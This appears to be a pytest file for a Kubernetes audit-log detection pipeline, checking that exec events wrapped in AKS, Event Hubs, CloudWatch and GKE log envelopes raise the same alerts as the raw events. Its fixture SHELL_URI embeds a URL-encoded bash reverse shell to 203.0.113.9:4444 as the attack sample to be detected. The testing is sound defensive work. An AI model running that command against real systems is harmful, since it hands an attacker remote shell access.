"""Managed clusters' envelopes (AKS, Event Hubs, EKS CloudWatch Logs, GKE) decoded into the same
events, and the same alerts, as the raw audit event they carry.

The records are written to each platform's documented schema (Azure Monitor diagnostic records,
CloudWatch Logs subscription payloads, Cloud Audit Logs ``LogEntry``) with the field names the
record shapes in Elastic's Kubernetes integration test data use; no platform sample is copied.
"""

from __future__ import annotations

import base64
import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from auditstream.detections.alert import SourceRef
from auditstream.detections.alert_window import RecentAlerts
from auditstream.detections.engine import Detector
from auditstream.detections.errors import MalformedEvent
from auditstream.detections.event.decode import decode_message, events_from_json
from auditstream.detections.event.envelope import Envelope
from auditstream.detections.event.inflate import inflate
from auditstream.detections.pipeline import DetectionPipeline
from auditstream.detections.ruleset.loader import load_rules
from auditstream.detections.sigma import load_sigma_text
from auditstream.stream.cli.main import main

SHELL_URI = (
    "/api/v1/namespaces/default/pods/web-0/exec?command=bash&command=-c&command=bash+-i+%3E%26+"
    "%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261&container=app&stderr=true&stdout=true"
)
RESOURCE_ID = (
    "/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000000/RESOURCEGROUPS/RG-PROD/PROVIDERS/"
    "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/PROD-AKS"
)


def shell_exec(audit_id: str = "8a4f7f0e-1d2b-4c3a-9e8f-000000000001") -> dict[str, Any]:
    return {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": audit_id,
        "stage": "ResponseStarted",
        "requestURI": SHELL_URI,
        "verb": "create",
        "user": {"username": "mallory", "groups": ["system:authenticated"]},
        "sourceIPs": ["198.51.100.20"],
        "userAgent": "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
        "objectRef": {
            "resource": "pods", "namespace": "default", "name": "web-0",
            "apiVersion": "v1", "subresource": "exec",
        },
        "responseStatus": {"code": 101},
        "requestReceivedTimestamp": "2026-12-04T10:00:00.000000Z",
        "stageTimestamp": "2026-12-04T10:00:00.040000Z",
        "annotations": {"authorization.k8s.io/decision": "allow"},
    }  # fmt: skip


def aks(event: dict[str, Any], *, as_text: bool = True, category: str = "kube-audit") -> dict:
    return {
        "category": category,
        "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
        "properties": {
            "log": json.dumps(event) if as_text else event,
            "pod": "kube-apiserver-6d5c8d9f7b-x2x9q",
            "stream": "stdout",
            "containerID": "3f1e0c9b7a2d",
        },
        "resourceId": RESOURCE_ID,
        "time": "2026-12-04T10:00:00.050000Z",
    }


def cloudwatch(messages: list[str], stream: str = "kube-apiserver-audit-8c5f1b2e") -> dict:
    return {
        "messageType": "DATA_MESSAGE",
        "owner": "111122223333",
        "logGroup": "/aws/eks/prod-eks/cluster",
        "logStream": stream,
        "subscriptionFilters": ["audit-to-kafka"],
        "logEvents": [
            {"id": f"3719551436512834{n:04d}", "timestamp": 1796378400000 + n, "message": m}
            for n, m in enumerate(messages)
        ],
    }


def gke_exec(insert_id: str = "b7c0d9e8-gke-0001") -> dict[str, Any]:
    return {
        "insertId": insert_id,
        "logName": "projects/prod-project/logs/cloudaudit.googleapis.com%2Factivity",
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "serviceName": "k8s.io",
            "methodName": "io.k8s.core.v1.pods.exec.create",
            "resourceName": "core/v1/namespaces/default/pods/web-0/exec",
            "authenticationInfo": {"principalEmail": "mallory@example.com"},
            "requestMetadata": {
                "callerIp": "198.51.100.20",
                "callerSuppliedUserAgent": "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
            },
            "authorizationInfo": [
                {"granted": True, "permission": "io.k8s.core.v1.pods.exec.create",
                 "resource": "core/v1/namespaces/default/pods/web-0/exec"}
            ],
            "status": {"code": 0},
        },
        "resource": {
            "type": "k8s_cluster",
            "labels": {"cluster_name": "prod-gke", "location": "europe-west1",
                       "project_id": "prod-project"},
        },
        "timestamp": "2026-12-04T10:00:00.040000Z",
        "receiveTimestamp": "2026-12-04T10:00:00.300000Z",
        "labels": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
        "operation": {"id": insert_id, "producer": "k8s.io", "first": True, "last": True},
    }  # fmt: skip


def encode(value: object) -> bytes:
    return json.dumps(value).encode()


@pytest.fixture(scope="module")
def pipeline_factory() -> Any:
    rules = load_rules().rules

    def make() -> DetectionPipeline:
        return DetectionPipeline(Detector(rules), RecentAlerts(1000))

    return make


def alerts_of(pipeline_factory: Any, data: bytes) -> list[tuple[str, str, Envelope | None]]:
    found = pipeline_factory().process_message(data, SourceRef("kafka", topic="t", offset=1))
    return sorted((a.alert_id, a.rule.rule_id, a.source.envelope) for a in found.alerts)


# --- each shape alerts as the raw event does ------------------------------------------------------

ENVELOPES = {
    "aks log as text": lambda e: encode(aks(e)),
    "aks log as object": lambda e: encode(aks(e, as_text=False)),
    "aks kube-audit-admin": lambda e: encode(aks(e, category="kube-audit-admin")),
    "event hubs records": lambda e: encode({"records": [aks(e)]}),
    "cloudwatch": lambda e: encode(cloudwatch([json.dumps(e)])),
    "cloudwatch gzip (Kinesis, Firehose)": lambda e: gzip.compress(
        encode(cloudwatch([json.dumps(e)]))
    ),
    "cloudwatch via Lambda": lambda e: encode(
        {
            "awslogs": {
                "data": base64.b64encode(
                    gzip.compress(encode(cloudwatch([json.dumps(e)])))
                ).decode()
            }
        }
    ),
    "firehose back to back": lambda e: (
        encode(cloudwatch([json.dumps(e)])) * 1
        + encode(cloudwatch([json.dumps({**e, "stage": "ResponseComplete"})]))
    ),
}


@pytest.mark.parametrize("shape", list(ENVELOPES))
def test_an_exec_inside_each_envelope_alerts_as_the_raw_event(
    shape: str, pipeline_factory: Any
) -> None:
    raw = alerts_of(pipeline_factory, encode(shell_exec()))
    assert raw, "the raw exec must alert"
    wrapped = alerts_of(pipeline_factory, ENVELOPES[shape](shell_exec()))
    assert [a[:2] for a in wrapped] == [a[:2] for a in raw]
    assert all(envelope is not None for _, _, envelope in wrapped)


def test_envelope_coordinates_reach_the_alert_source(pipeline_factory: Any) -> None:
    (_, _, envelope), *_ = alerts_of(pipeline_factory, encode(aks(shell_exec())))
    assert envelope == Envelope(
        "aks", "PROD-AKS", RESOURCE_ID, "kube-audit", "kube-apiserver-6d5c8d9f7b-x2x9q"
    )
    (_, _, envelope), *_ = alerts_of(
        pipeline_factory, encode(cloudwatch([json.dumps(shell_exec())]))
    )
    assert envelope == Envelope(
        "eks", "prod-eks", "111122223333", "/aws/eks/prod-eks/cluster",
        "kube-apiserver-audit-8c5f1b2e",
    )  # fmt: skip
    found = pipeline_factory().process_message(encode(aks(shell_exec())), SourceRef("file"))
    record = found.alerts[0].to_record()
    assert record["source"]["envelope"]["cluster"] == "PROD-AKS"


# --- batches: one bad entry is set aside alone; others skipped on purpose -------------------------


def test_a_bad_record_of_an_event_hubs_batch_is_set_aside_alone() -> None:
    good = shell_exec()
    batch = {"records": [aks(good), {"oops": 1}, aks({"no": "event"}), aks(good, category="guard")]}
    decoded = decode_message(encode(batch))
    assert decoded is not None
    assert [e.audit["auditID"] for e in decoded] == [good["auditID"]]
    assert [(s.index, s.error.reason) for s in decoded.set_aside] == [
        (1, "unknown_shape"),
        (2, "unknown_shape"),
    ]
    assert json.loads(decoded.set_aside[0].raw) == {"oops": 1}
    assert decoded.skipped == ("aks_category",)


def test_a_bad_log_event_of_a_cloudwatch_batch_is_set_aside_with_its_own_text() -> None:
    payload = cloudwatch([json.dumps(shell_exec()), "I1204 10:00:00 not json", "{}"])
    decoded = decode_message(gzip.compress(encode(payload)))
    assert decoded is not None and len(decoded) == 1
    assert [(s.index, s.error.reason) for s in decoded.set_aside] == [
        (1, "not_json"),
        (2, "unknown_shape"),
    ]
    assert decoded.set_aside[0].raw == b"I1204 10:00:00 not json"


def test_control_messages_and_other_eks_streams_are_skipped() -> None:
    control = {**cloudwatch([]), "messageType": "CONTROL_MESSAGE",
               "logEvents": [{"id": "1", "timestamp": 0, "message": "CWL CONTROL MESSAGE"}]}  # fmt: skip
    decoded = decode_message(encode(control))
    assert (
        decoded is not None
        and list(decoded) == []
        and decoded.skipped == ("cloudwatch_control_message",)
    )
    authenticator = cloudwatch(["time=... level=info msg=..."], stream="authenticator-8c5f1b2e")
    decoded = decode_message(encode(authenticator))
    assert decoded is not None and list(decoded) == [] and not decoded.set_aside
    assert decoded.skipped == ("eks_log_stream",)


def test_a_lone_envelope_that_is_broken_is_a_dead_letter_whole() -> None:
    with pytest.raises(MalformedEvent) as info:
        decode_message(encode(aks({"kind": "Event"})))
    assert info.value.reason == "unknown_shape"
    with pytest.raises(MalformedEvent) as info:
        decode_message(encode({**cloudwatch([]), "messageType": "SOMETHING"}))
    assert info.value.reason == "unknown_shape"
    with pytest.raises(MalformedEvent) as info:
        events_from_json({"records": [aks(shell_exec()), {"oops": 1}]})
    assert info.value.reason == "unknown_shape"  # the strict reader refuses any bad entry


# --- gzip ---------------------------------------------------------------------------------------


def test_gzip_is_inflated_with_a_bound() -> None:
    assert inflate(gzip.compress(b"ab") + gzip.compress(b"cd")) == b"abcd"  # Firehose members
    with pytest.raises(MalformedEvent) as info:
        inflate(gzip.compress(b"x" * 10_000), limit=1_000)
    assert info.value.reason == "oversized"
    with pytest.raises(MalformedEvent) as info:
        decode_message(b"\x1f\x8b" + b"not really gzip")
    assert info.value.reason == "not_gzip"
    with pytest.raises(MalformedEvent) as info:
        decode_message(gzip.compress(encode(shell_exec()))[:-6])
    assert info.value.reason == "not_gzip"


# --- GKE ------------------------------------------------------------------------------------------


def test_a_gke_entry_reads_as_the_audit_event_it_describes() -> None:
    decoded = decode_message(encode(gke_exec()))
    assert decoded is not None
    (event,) = decoded
    audit = event.audit
    assert (audit["auditID"], audit["verb"], audit["stage"]) == (
        "b7c0d9e8-gke-0001", "create", "ResponseComplete",
    )  # fmt: skip
    assert audit["requestURI"] == "/api/v1/namespaces/default/pods/web-0/exec"
    assert audit["objectRef"] == {
        "apiVersion": "v1", "namespace": "default", "resource": "pods", "name": "web-0",
        "subresource": "exec",
    }  # fmt: skip
    assert audit["user"] == {"username": "mallory@example.com"}
    assert audit["sourceIPs"] == ["198.51.100.20"]
    assert audit["responseStatus"] == {"code": 0}  # the google.rpc code, as Elastic maps it
    assert audit["annotations"]["authorization.k8s.io/decision"] == "allow"
    assert audit["stageTimestamp"] == "2026-12-04T10:00:00.040000Z"
    assert event.envelope == Envelope(
        "gke", "prod-gke", "prod-project",
        "projects/prod-project/logs/cloudaudit.googleapis.com%2Factivity",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("resource_name", "uri", "ref"),
    [
        ("apps/v1/namespaces/prod/deployments/api", "/apis/apps/v1/namespaces/prod/deployments/api",
         {"apiGroup": "apps", "apiVersion": "v1", "namespace": "prod", "resource": "deployments",
          "name": "api"}),
        ("rbac.authorization.k8s.io/v1/clusterrolebindings/admin",
         "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/admin",
         {"apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1",
          "resource": "clusterrolebindings", "name": "admin"}),
        ("core/v1/namespaces/kube-system", "/api/v1/namespaces/kube-system",
         {"apiVersion": "v1", "resource": "namespaces", "name": "kube-system"}),
        ("core/v1/namespaces/prod/secrets", "/api/v1/namespaces/prod/secrets",
         {"apiVersion": "v1", "namespace": "prod", "resource": "secrets"}),
        ("readyz", "/readyz", None),
    ],
)  # fmt: skip
def test_gke_resource_names_become_request_uris_and_object_refs(
    resource_name: str, uri: str, ref: dict[str, str] | None
) -> None:
    entry = gke_exec()
    entry["protoPayload"]["resourceName"] = resource_name
    (event,) = events_from_json(entry)
    assert event.audit["requestURI"] == uri
    assert event.audit.get("objectRef") == ref


def test_other_gcp_services_are_skipped() -> None:
    entry = gke_exec()
    entry["protoPayload"]["serviceName"] = "compute.googleapis.com"
    decoded = decode_message(encode(entry))
    assert decoded is not None and list(decoded) == [] and decoded.skipped == ("gcp_service",)


def test_the_exec_command_rules_cannot_fire_on_gke(pipeline_factory: Any) -> None:
    """A GKE exec entry has no command: the ES|QL and native exec-command rules stay silent."""
    assert alerts_of(pipeline_factory, encode(gke_exec())) == []


def test_rules_on_verb_and_object_fire_on_gke() -> None:
    rule_text = """
title: Exec into a pod
id: 6a3c2a4e-2b1f-4f55-8f77-1c1f0b6f2d10
logsource:
    product: kubernetes
    service: audit
detection:
    selection:
        verb: create
        objectRef.resource: pods
        objectRef.subresource: exec
    condition: selection
level: medium
"""
    (rule,) = load_sigma_text(rule_text, "exec.yml").rules
    (event,) = events_from_json(gke_exec())
    assert [hit.rule.rule_id for hit in Detector([rule]).detect(event)] == [rule.meta.rule_id]


# --- scan -----------------------------------------------------------------------------------------


def test_scan_reads_envelopes_and_dead_letters_bad_entries_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "aks.jsonl"
    second = shell_exec("8a4f7f0e-1d2b-4c3a-9e8f-000000000002")
    lines = [
        json.dumps(aks(shell_exec())),
        json.dumps({"records": [aks(second), {"oops": 1}, aks(second, category="guard")]}),
    ]
    log.write_text("\n".join(lines) + "\n")
    letters = tmp_path / "dead.jsonl"
    assert main(["scan", "--dead-letter", str(letters), str(log)]) == 0
    captured = capsys.readouterr()
    alerts = [json.loads(line) for line in captured.out.splitlines()]
    assert {a["event"]["audit_id"] for a in alerts} == {shell_exec()["auditID"], second["auditID"]}
    assert {a["source"]["envelope"]["provider"] for a in alerts} == {"aks"}
    (letter,) = [json.loads(line) for line in letters.read_text().splitlines()]
    assert (letter["line"], letter["entry"], letter["reason"]) == (2, 1, "unknown_shape")
    assert json.loads(letter["value"]) == {"oops": 1}
    assert "skipped 1 entries: aks_category" in captured.err
    assert f"malformed {log}:2 entry 1: unknown_shape" in captured.err


def test_scan_reads_every_cloud_shape(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ids = [f"8a4f7f0e-1d2b-4c3a-9e8f-00000000010{n}" for n in range(4)]
    lines = [
        json.dumps(aks(shell_exec(ids[0]), as_text=False)),
        json.dumps(cloudwatch([json.dumps(shell_exec(ids[1]))])),
        json.dumps({"awslogs": {"data": base64.b64encode(
            gzip.compress(encode(cloudwatch([json.dumps(shell_exec(ids[2]))])))
        ).decode()}}),
        # Firehose without a record delimiter: payloads back to back on one line.
        json.dumps(cloudwatch([json.dumps(shell_exec(ids[3]))])) + json.dumps(cloudwatch([])),
        json.dumps(gke_exec()),
    ]  # fmt: skip
    log = tmp_path / "cloud.jsonl"
    log.write_text("\n".join(lines) + "\n")
    assert main(["scan", str(log)]) == 0
    captured = capsys.readouterr()
    alerts = [json.loads(line) for line in captured.out.splitlines()]
    assert {a["event"]["audit_id"] for a in alerts} == set(ids)
    assert "5 events" in captured.err and "0 malformed" in captured.err  # GKE: one, no alert
